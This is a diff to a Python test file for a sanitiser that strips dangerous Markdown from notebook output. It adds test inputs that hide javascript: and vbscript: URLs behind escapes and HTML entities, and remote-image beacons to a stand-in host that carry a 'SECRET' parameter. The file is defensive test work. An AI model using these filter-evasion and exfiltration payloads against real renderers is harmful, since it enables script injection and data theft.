@@ -78,7 +78,10 @@ def test_a_pandas_table_keeps_its_table():
 
 @pytest.mark.parametrize("text", ["[click](javascript:alert(1))", "[c](  JAVA&#83;cript:alert(1))",
                                   "<javascript:alert(1)>", "![i](data:image/svg+xml;base64,PHN2Zz4=)",
-                                  "[r]: vbscript:msgbox", "$\\href{javascript:alert(1)}{x}$"])
+                                  "[r]: vbscript:msgbox", "$\\href{javascript:alert(1)}{x}$",
+                                  # marked undoes a backslash escape of punctuation: href="javascript:alert(1)"
+                                  "[x](javascript\\:alert(1))", "[x][r]\n\n[r]: javascript\\:alert(1)",
+                                  "[x](<javascript\\:alert(1)>)", "[x](vbscript&amp;#58;x)"])
 def test_markdown_naming_a_script_url_is_dropped(text):
     m = check_box_message(message(content={"data": {"text/plain": "x", "text/markdown": text}, "metadata": {}}))
     assert m.content["data"] == {"text/plain": "x"}
@@ -94,11 +97,20 @@ def test_an_image_the_browser_would_fetch_from_elsewhere_loses_its_url(html):
     assert local.content["data"] == {"text/html": '<img src="plot.png">'}
 
 
-@pytest.mark.parametrize("text", ["![x](https://evil.example/?d=1)", "![x][r]\n\n[r]: //evil.example/x"])
+@pytest.mark.parametrize("text", ["![x](https://evil.example/?d=1)", "![x][r]\n\n[r]: //evil.example/x",
+                                  # a scheme with no slashes: the browser still fetches http:host/x from host
+                                  "![a](http:evil.example/x.png?d=SECRET)", "![a](https:evil/x)",
+                                  "![a](http\\:evil/x)", "![a][r]\n\n[r]: https&#58;evil/x",
+                                  "<img src=x>\n\n[r]: http:evil/x"])
 def test_markdown_that_may_load_a_remote_image_is_dropped(text):
     m = check_box_message(message(content={"data": {"text/markdown": text}, "metadata": {}}))
     assert m.content["data"] == {}
     assert m.dropped == ["display_data.data:text/markdown (a script URL or a remote image)"]
+
+
+def test_markdown_with_a_local_image_keeps_it():
+    m = check_box_message(message(content={"data": {"text/markdown": "![plot](plot.png) *ok*"}, "metadata": {}}))
+    assert m.content["data"] == {"text/markdown": "![plot](plot.png) *ok*"} and not m.dropped
 
 
 def test_prose_that_mentions_data_keeps_its_markdown():
